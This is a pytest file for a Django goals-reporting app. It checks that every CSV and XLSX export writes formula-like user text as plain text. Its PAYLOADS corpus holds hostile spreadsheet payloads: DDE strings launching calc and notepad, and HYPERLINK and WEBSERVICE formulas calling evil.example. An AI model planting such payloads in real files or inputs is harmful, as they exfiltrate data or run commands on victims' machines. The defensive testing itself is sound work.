"""Formula injection: user text that looks like a formula is written as text by every export — the
project list and the review queue (CSV and XLSX), the 自评表 and the 汇总表 (XLSX), the annual package
(its workbooks) and the goals-table export of the import page.

CSV: a cell that begins with = + - @ tab or CR gets a leading apostrophe (OWASP). XLSX: no cell of any
sheet holds a formula or a hyperlink, and the text reads back as typed.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from perfgoals.choices import Status
from perfgoals.models import Evaluation, Indicator
from perfgoals.reports import actions, tasks
from perfgoals.reports.models import PackageStatus
from projects.exports import csv_text
from projects.models import Project

from .conftest import MAIN_PROJECT, set_status

pytestmark = pytest.mark.django_db

#: the hostile corpus: each would run, link or call out in a spreadsheet if written as a formula
PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "goal": "+1+cmd|' /C calc'!A0",
    "result": "-2+3+cmd|' /C notepad'!A0",
    "phone": "@SUM(1+1)*cmd|' /C calc'!A0",
    "indicator": "\t=1+1",
    "target": "\r=2+2",
    "note": '=WEBSERVICE("http://evil.example")',
}


@pytest.fixture
def hostile(demo):
    """The main project's texts replaced by the corpus (name, goal, result, phone, indicators)."""
    project = Project.objects.get(year=MAIN_PROJECT[0], name=MAIN_PROJECT[1])
    Project.objects.filter(pk=project.pk).update(
        name=PAYLOADS["name"],
        goal_text=PAYLOADS["goal"],
        goal_result_text=PAYLOADS["result"],
        contact_phone=PAYLOADS["phone"],
    )
    first = Indicator.objects.filter(project=project).order_by("pk").first()
    Indicator.objects.filter(pk=first.pk).update(
        name=PAYLOADS["indicator"], target_text=PAYLOADS["target"], deviation_note=PAYLOADS["note"]
    )
    project.refresh_from_db()
    return project


def _content(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _assert_csv_safe(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert cells, "empty export"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    return rows


def _assert_xlsx_safe(data: bytes, expected: list[str]) -> None:
    """No formula, hyperlink or external link in any sheet; each expected text read back as a string."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = archive.namelist()
    sheets = [name for name in names if name.startswith("xl/worksheets/sheet")]
    assert sheets
    for name in sheets:
        xml = archive.read(name).decode()
        assert not re.search(r"<f[ >]", xml), f"formula in {name}"
        assert "<hyperlink" not in xml, f"hyperlink in {name}"
    assert not any(name.startswith("xl/externalLinks") for name in names)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for text in expected:
        assert any(text in value for value in texts), f"{text!r} missing"


@pytest.mark.parametrize("value", list(PAYLOADS.values()) + ["-5", "@", "=", "+86 535 1234567"])
def test_csv_cell_neutralises_every_formula_trigger(value):
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["项目名称", "5515", "a=b", " =x", "100.00%"])
def test_csv_cell_leaves_ordinary_text_alone(value):
    assert csv_text(value) == value


def test_project_list_csv_writes_formulas_as_text(hostile, client_of):
    data = _content(client_of("finance").get(reverse("project_list"), {"year": "all", "_export": "csv"}))
    rows = _assert_csv_safe(data)
    assert ["'" + PAYLOADS["name"]] == [row[1] for row in rows if PAYLOADS["name"] in row[1]]


def test_project_list_xlsx_writes_formulas_as_text(hostile, client_of):
    data = _content(client_of("finance").get(reverse("project_list"), {"year": "all", "_export": "xlsx"}))
    _assert_xlsx_safe(data, [PAYLOADS["name"]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_review_queue_exports_write_formulas_as_text(hostile, client_of, fmt):
    set_status(hostile, Status.SUBMITTED)
    data = _content(client_of("supervisor_own").get(reverse("perfgoals:review_queue"), {"_export": fmt}))
    if fmt == "csv":
        rows = _assert_csv_safe(data)
        assert any(row[1] == "'" + PAYLOADS["name"] for row in rows)
    else:
        _assert_xlsx_safe(data, [PAYLOADS["name"]])


def test_other_export_formats_are_not_offered(hostile, client_of):
    response = client_of("finance").get(reverse("project_list"), {"year": "all", "_export": "json"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


def test_selfeval_form_xlsx_writes_formulas_as_text(hostile, client_of):
    data = _content(client_of("unit_own").get(reverse("reports:form_xlsx", args=[hostile.pk])))
    _assert_xlsx_safe(
        data, [PAYLOADS[key] for key in ("name", "goal", "result", "phone", "indicator", "note")]
    )


def test_summary_xlsx_writes_formulas_as_text(hostile, client_of):
    url = reverse("reports:summary_xlsx", args=[hostile.department_id, hostile.year])
    _assert_xlsx_safe(_content(client_of("supervisor_own").get(url)), [PAYLOADS["name"]])


def test_goals_table_export_writes_formulas_as_text(hostile, client_of):
    data = _content(client_of("unit_own").get(reverse("intake:export"), {"project": hostile.pk}))
    _assert_xlsx_safe(data, [PAYLOADS["name"], PAYLOADS["goal"], PAYLOADS["indicator"]])


def test_package_workbooks_write_formulas_as_text(
    hostile, user_of, settings, tmp_path, django_capture_on_commit_callbacks
):
    from config.celery import app

    settings.MEDIA_ROOT = tmp_path / "media"
    before = app.conf.task_always_eager, app.conf.task_eager_propagates
    app.conf.update(task_always_eager=True, task_eager_propagates=True)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            package = actions.start_package(
                user_of("supervisor_own"), department=hostile.department, year=hostile.year
            )
            tasks.queue_package(package)
    finally:
        app.conf.update(task_always_eager=before[0], task_eager_propagates=before[1])
    package.refresh_from_db()
    assert package.status == PackageStatus.DONE
    with default_storage.open(package.file.name, "rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    workbooks = [name for name in archive.namelist() if name.endswith(".xlsx")]
    assert len(workbooks) >= 2
    for name in workbooks:
        _assert_xlsx_safe(archive.read(name), [])
    assert Evaluation.objects.filter(project=hostile).exists()
